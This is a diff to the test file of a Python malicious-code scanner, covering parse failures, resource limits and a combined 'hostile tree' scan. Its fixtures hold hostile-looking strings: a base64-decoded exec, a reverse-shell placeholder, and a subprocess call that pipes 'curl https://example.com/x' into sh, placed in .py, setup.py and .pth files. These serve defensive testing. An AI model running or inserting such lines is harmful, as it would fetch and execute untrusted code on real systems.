@@ -316,8 +316,9 @@ def test_builtin_rules_survive_fallback(ruleset: RuleSet) -> None:
     """The installed pack on unparsable hostile code: never a crash, always the parse notification."""
     src = (f"import base64, socket, os, subprocess\n(x): int = 1\nexec(base64.b64decode('{B64}'))\n{REVSHELL}"
            "subprocess.Popen('curl https://example.com/x | sh', shell=True)\nprint 'py2'\n")
-    for name in ("a.py", "setup.py", "pkg/__init__.py", "x.pth"):
-        result = scan_file(name, src.encode(), ruleset, Config())
+    pth = f"import base64; (x): int = 1; exec(base64.b64decode('{B64}'))\n"
+    for name, text in (("a.py", src), ("setup.py", src), ("pkg/__init__.py", src), ("x.pth", pth)):
+        result = scan_file(name, text.encode(), ruleset, Config())
         assert "parse-error" in kinds(result), result.notifications
         assert not [n for n in result.notifications if n.kind in ("internal-error", "rule-error")]
 
@@ -710,7 +711,7 @@ def cli(*args: str, cwd: Path) -> subprocess.CompletedProcess:
     return subprocess.run(cmd + list(args), cwd=cwd, capture_output=True, timeout=300, env=env)
 
 
-def build_hostile_tree(root: Path) -> dict[str, str]:
+def build_hostile_tree(root: Path) -> dict[str, str | tuple[str, ...]]:
     """Every hostile item in one folder; returns {display path: notification kind expected}."""
     root.mkdir(parents=True, exist_ok=True)
     expected = {}
@@ -734,15 +735,15 @@ def build_hostile_tree(root: Path) -> dict[str, str]:
         handle.truncate(50 * 1024 * 1024)
     expected["huge.py"] = "too-large"
     head = "import base64\nexec(base64.b64decode(x))\n"  # something Python rules want, so a parse is due
-    (root / "b64line.py").write_text(head + "x = '" + "QUJD" * 260_000 + "'\n")  # over max-line-chars
+    (root / "b64line.py").write_text(head + "x = '" + "QUJD" * 30_000 + "'\n")  # over max-line-chars (as set below)
     expected["b64line.py"] = "too-large"
     (root / "parens.py").write_text(head + "x = " + "(" * 100_000 + ")" * 100_000 + "\n")
     expected["parens.py"] = "too-deep"
     (root / "chain.py").write_text(head + "x = " + "+".join(["1"] * 100_000) + "\n")
-    expected["chain.py"] = "too-deep"
+    expected["chain.py"] = ("too-deep", "too-large")
     (root / "nots.py").write_text(head + "x = " + "not " * 100_000 + "1\n")
-    expected["nots.py"] = "too-deep"
-    (root / "tiny.py").write_text(head + "x=1\n" * 300_000)  # over max-parse-tokens
+    expected["nots.py"] = ("too-deep", "too-large")
+    (root / "tiny.py").write_text(head + "x=1\n" * 40_000)  # over max-parse-tokens (as set below)
     expected["tiny.py"] = "too-large"
     os.mkfifo(root / "fifo.py")
     (root / "null.py").symlink_to("/dev/null")
@@ -761,12 +762,15 @@ def test_scan_of_everything_at_once(tmp_path: Path) -> None:
     root = tmp_path / "hostile"
     expected = build_hostile_tree(root)
     expected["fifo.py"] = "not-a-file"
-    done = cli("scan", "hostile", "--format", "json", "--no-cache", "--isolated", "-j", "2", cwd=tmp_path)
+    # Lower line and token limits than the defaults keep this test quick; the defaults are exercised above.
+    (tmp_path / "limits.toml").write_text("[limits]\nmax-line-chars = 100000\nmax-parse-tokens = 100000\n")
+    done = cli("scan", "hostile", "--format", "json", "--no-cache", "--config", "limits.toml", "-j", "2", cwd=tmp_path)
     assert done.returncode in (0, 1), done.stderr.decode(errors="replace")
     report = json.loads(done.stdout)
     got = notes_by_path(report_notes(report))
     for path, kind in expected.items():
-        assert kind in got.get(f"hostile/{path}", set()), (path, got.get(f"hostile/{path}"))
+        wanted = {kind} if isinstance(kind, str) else set(kind)
+        assert wanted & got.get(f"hostile/{path}", set()), (path, got.get(f"hostile/{path}"))
     assert not [n for n in report["notifications"] if n["kind"] in ("internal-error", "worker-crashed")]
     text = cli("scan", "hostile/esc\x1b[2J.py", "hostile/annotated.py", "--no-cache", "--isolated", cwd=tmp_path)
     assert text.returncode in (0, 1)
